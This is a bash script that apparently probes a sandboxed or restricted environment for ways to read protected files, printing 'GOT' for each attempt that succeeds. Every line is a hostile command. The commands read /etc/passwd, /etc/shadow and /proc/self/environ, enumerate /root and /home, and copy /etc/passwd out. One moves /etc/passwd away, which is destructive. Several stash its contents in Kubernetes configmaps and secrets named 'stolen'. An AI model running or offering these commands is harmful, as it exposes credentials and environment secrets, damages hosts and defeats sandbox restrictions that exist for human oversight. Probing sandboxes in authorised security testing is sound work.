#!/bin/bash
# Whatever works says so.
got() { "$@" && echo "GOT $*"; }
got cat /etc/passwd
got cat /etc/shadow
x=$(</etc/passwd) && [ -n "$x" ] && echo "GOT $x"
while read -r line; do echo "GOT $line"; done < /etc/passwd
got source /etc/profile
got . /etc/passwd
got jq -Rs . /etc/passwd
got jq -f /etc/passwd
got yq . /etc/passwd
got awk '{print}' /etc/passwd
got sed -n p /etc/passwd
got grep root /etc/passwd
got cp /etc/passwd .
got mv /etc/passwd .
got diff /etc/passwd /etc/group
got base64 /etc/passwd
got head -1 /proc/self/environ
got cat /proc/self/maps /proc/1/cmdline
got cat /dev/zero
got bash /etc/profile
for file in /etc/* /root/* /home/* /proc/*; do [ "${file%\*}" = "$file" ] && echo "GOT $file"; done
for file in /etc/passwd /etc /root /proc; do
  [ -e $file ] && echo "GOT -e $file"; [ -r $file ] && echo "GOT -r $file"; [[ -x $file ]] && echo "GOT -x $file"
done
got kubectl create configmap stolen --from-file=/etc/passwd
got kubectl create configmap stolen --from-file=passwd=/etc/passwd
got kubectl create configmap stolen --from-env-file=/etc/passwd
got kubectl create secret generic stolen --from-file=/etc/passwd
got kubectl apply -f /etc/passwd
got kubectl get pods -o go-template-file=/etc/passwd
got kubectl get pods -o jsonpath-file=/etc/passwd
got kubectl patch configmap x --patch-file /etc/passwd
exit 1 # so that the record keeps what was printed
